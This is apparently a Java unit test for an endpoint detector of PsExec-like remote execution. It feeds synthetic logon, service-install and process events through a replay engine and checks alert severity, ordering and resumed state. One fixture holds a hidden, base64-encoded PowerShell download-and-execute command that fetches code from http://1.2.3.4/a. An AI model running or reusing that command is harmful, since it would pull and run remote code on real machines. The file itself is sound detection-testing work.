package seldom.analytics.remote;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.DataInputStream;
import java.io.DataOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.time.Duration;
import java.time.Instant;
import java.time.LocalDate;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import org.junit.jupiter.api.Test;
import seldom.analytics.content.ShippedContent;
import seldom.analytics.detector.Detectors;
import seldom.analytics.replay.DayResult;
import seldom.analytics.replay.HistorySink;
import seldom.analytics.replay.Options;
import seldom.analytics.replay.Replay;
import seldom.model.alert.Alert;
import seldom.model.alert.Severity;
import seldom.model.event.EndpointEvent;
import seldom.model.event.Image;
import seldom.model.event.ProcessRef;

/// Remote executions through the whole replay.
class RemoteReplayTest {
  private static final Detectors DETECTORS = Detectors.load(ShippedContent.texts());
  private static final String PSEXEC = "remote-psexec-like-execution";
  private static final Image CLONE = Night.unsigned("C:\\Windows\\kqzrtvbn.exe");
  private static final Image HELPDESK =
      Night.image(
          "C:\\Windows\\hdsvc.exe", seldom.model.event.SignatureStatus.VALID, "Contoso Ltd");

  private static LocalDate day(Instant time) {
    return LocalDate.ofInstant(time, ZoneOffset.UTC);
  }

  private static DayResult day(Replay replay, LocalDate day, Night night) {
    Instant from = day.atStartOfDay(ZoneOffset.UTC).toInstant();
    List<EndpointEvent> events = night.within(from, from.plus(Duration.ofDays(1)));
    return replay.day(day, events, List.of(), List.of(), HistorySink.NONE);
  }

  private static List<Alert> psexec(DayResult result) {
    return result.alerts().stream().filter(a -> a.detector().equals(PSEXEC)).toList();
  }

  private static byte[] bytes(Replay replay) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    try {
      replay.writeTo(new DataOutputStream(out));
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
    return out.toByteArray();
  }

  private static Replay resumed(byte[] bytes) throws IOException {
    return Replay.readFrom(
        new DataInputStream(new ByteArrayInputStream(bytes)), DETECTORS, Options.NONE);
  }

  @Test
  void theAlertHoldsTheServiceItsCommandAndEveryRecordThatContributed() {
    Night night =
        new Night().execution("h1", Night.START, CLONE, "cmd.exe /c whoami", "C\\ann", "10.9.9.9");
    Replay replay = Replay.start(DETECTORS, Options.NONE);
    List<Alert> alerts = psexec(day(replay, day(Night.START), night));
    assertThat(alerts).hasSize(1);
    Alert a = alerts.getFirst();
    assertThat(a.variation()).isEqualTo("lolbin-unsigned");
    assertThat(a.severity()).isEqualTo(Severity.HIGH);
    assertThat(a.sources().stream().map(s -> s.index())).containsExactly(0L, 1L, 2L, 3L, 4L);
    assertThat(a.actor().image().path()).isEqualTo(CLONE.path());
    assertThat(a.receipt().actorKey()).isEqualTo("source:t|10.9.9.9|c\\ann");
    assertThat(a.receipt().notes().toString()).contains("no known host: it counts as never seen");
  }

  /// Times of records that contribute are moved within half a minute; the service stays before its
  /// command, as in any clock.
  @Test
  void whateverOrderTheRecordsHaveTheAlertIsTheSame() {
    long seed = Long.getLong("seldom.seed", 20261122L);
    Random random = new Random(seed);
    for (int round = 0; round < 25; round++) {
      Night night = new Night();
      Instant at = Night.START;
      ProcessRef service = Night.process("h1", CLONE, CLONE.path(), "x");
      night
          .logon("h1", at.plusSeconds(random.nextInt(-3000, 30)), "0xab1", "C\\ann", "10.9.9.9")
          .control("h1", at.plusSeconds(random.nextInt(-30, 4)), "0xab1", "C\\ann", "10.9.9.9")
          .install("h1", at.plusSeconds(random.nextInt(-30, 30)), "svc", CLONE.path(), "0xab1")
          .launch("h1", at, Night.services("h1"), service)
          .launch(
              "h1",
              at.plusSeconds(random.nextInt(1, 50)),
              service,
              Night.process("h1", Night.system("cmd.exe"), "cmd.exe /c dir", "x"));
      Replay replay = Replay.start(DETECTORS, Options.NONE);
      List<Alert> alerts = psexec(day(replay, day(at), night));
      assertThat(alerts).as("seed %d, round %d: -Dseldom.seed=%d", seed, round, seed).hasSize(1);
      assertThat(alerts.getFirst().variation()).isEqualTo("lolbin-unsigned");
      assertThat(alerts.getFirst().sources()).hasSize(5);
    }
  }

  @Test
  void whatMidnightCutsIsToldWhenTheOtherHalfIsThere() throws IOException {
    Instant midnight = Instant.parse("2026-05-05T00:00:00Z");
    Night night = new Night();
    ProcessRef service = Night.process("h1", CLONE, CLONE.path(), "x");
    night
        .logon("h1", midnight.minusSeconds(20), "0xab1", "C\\ann", "10.9.9.9")
        .install("h1", midnight.minusSeconds(12), "svc", CLONE.path(), "0xab1")
        .launch("h1", midnight.minusSeconds(10), Night.services("h1"), service)
        .launch(
            "h1",
            midnight.plusSeconds(10),
            service,
            Night.process("h1", Night.system("cmd.exe"), "cmd.exe /c dir", "x"));
    Replay replay = Replay.start(DETECTORS, Options.NONE);
    DayResult first = day(replay, day(midnight).minusDays(1), night);
    assertThat(psexec(first)).isEmpty();
    assertThat(first.alerts().stream().map(Alert::detector)).contains("remote-service-start");
    Replay copy = resumed(bytes(replay));
    DayResult second = day(replay, day(midnight), night);
    assertThat(psexec(second)).hasSize(1);
    assertThat(psexec(second).getFirst().sources()).hasSize(4);
    assertThat(day(copy, day(midnight), night).alerts()).isEqualTo(second.alerts());
    assertThat(bytes(copy)).isEqualTo(bytes(replay));
  }

  @Test
  void aRunThatIsResumedAfterEveryDayTellsTheSame() throws IOException {
    long seed = Long.getLong("seldom.seed", 7L);
    Random random = new Random(seed);
    Night night = new Night();
    Instant from = Instant.parse("2026-05-04T00:00:00Z");
    for (int i = 0; i < 300; i++) {
      Instant at = from.plusSeconds(random.nextInt(4 * 86_400) / 60 * 60 - 2);
      String host = "h" + random.nextInt(5);
      Image service = random.nextBoolean() ? CLONE : HELPDESK;
      if (!at.isBefore(from)) {
        night.execution(host, at, service, "cmd.exe /c dir " + i, "C\\ann", "10.9.9." + i % 9);
      }
    }
    Replay straight = Replay.start(DETECTORS, Options.NONE);
    Replay broken = Replay.start(DETECTORS, Options.NONE);
    long raised = 0;
    for (int d = 0; d < 5; d++) {
      DayResult a = day(straight, day(from).plusDays(d), night);
      DayResult b = day(broken, day(from).plusDays(d), night);
      assertThat(b.alerts()).as("seed %d", seed).isEqualTo(a.alerts());
      raised += psexec(a).size();
      broken = resumed(bytes(broken));
      assertThat(bytes(broken)).as("day %d, seed %d", d, seed).isEqualTo(bytes(straight));
    }
    assertThat(raised).isPositive();
  }

  @Test
  void aRoutineExcusesItsOwnServiceAccountAndKindOfCommandAlone() {
    Night night = new Night();
    LocalDate first = day(Night.START);
    for (int d = 0; d < 20; d++) {
      Instant at = Night.START.plus(Duration.ofDays(d));
      night.owns("desk", at.minusSeconds(600), "10.0.0.5");
      for (int h = 0; h < 6; h++) {
        night.execution(
            "h" + h, at.plusSeconds(60L * h), HELPDESK, "cmd.exe /c dir", "C\\help", "10.0.0.5");
      }
    }
    Instant last = Night.START.plus(Duration.ofDays(20));
    night
        .owns("desk", last.minusSeconds(600), "10.0.0.5")
        .execution("h0", last, HELPDESK, "cmd.exe /c dir", "C\\help", "10.0.0.5")
        .execution("h1", last, HELPDESK, "cmd.exe /c dir", "C\\mallory", "10.0.0.5")
        .execution("h2", last, CLONE, "cmd.exe /c dir", "C\\help", "10.0.0.5")
        .execution("h3", last, HELPDESK, "cmd.exe /c dir", "C\\help", "10.0.0.66")
        .execution(
            "h4",
            last,
            HELPDESK,
            "powershell -nop -w hidden -enc "
                + "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"
                + "LgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQAuADIALgAzAC4ANAAvAGEAJwApAA==",
            "C\\help",
            "10.0.0.5");
    Replay replay = Replay.start(DETECTORS, Options.NONE);
    List<Alert> alerts = new ArrayList<>();
    for (int d = 0; d <= 20; d++) {
      alerts = psexec(day(replay, first.plusDays(d), night));
    }
    assertThat(severity(alerts, "h0")).as("the routine").isEqualTo(Severity.INFORMATIONAL);
    assertThat(severity(alerts, "h1")).as("another account").isEqualTo(Severity.MEDIUM);
    assertThat(severity(alerts, "h2")).as("another service").isEqualTo(Severity.HIGH);
    assertThat(severity(alerts, "h3")).as("another source").isEqualTo(Severity.MEDIUM);
    assertThat(severity(alerts, "h4"))
        .as("another kind of command")
        .isNotEqualTo(Severity.INFORMATIONAL);
  }

  private static Severity severity(List<Alert> alerts, String host) {
    List<Alert> its = alerts.stream().filter(a -> a.host().equals(host)).toList();
    assertThat(its).as(host).hasSize(1);
    return its.getFirst().severity();
  }

  @Test
  void aFloodOfLogonsAndPipesDoesNotGrowTheState() {
    Night night = new Night();
    for (int i = 0; i < 30_000; i++) {
      Instant at = Night.START.plusMillis(3L * i);
      night.logon("h1", at, "0x" + Integer.toHexString(i + 4096), "C\\u" + i, "10.1.1.1");
      night.control("h1", at, "0x" + Integer.toHexString(i + 4096), "C\\u" + i, "10.1.1.1");
    }
    Replay replay = Replay.start(DETECTORS, Options.NONE);
    day(replay, day(Night.START), night);
    assertThat(bytes(replay).length).isLessThan(600_000);
  }
}
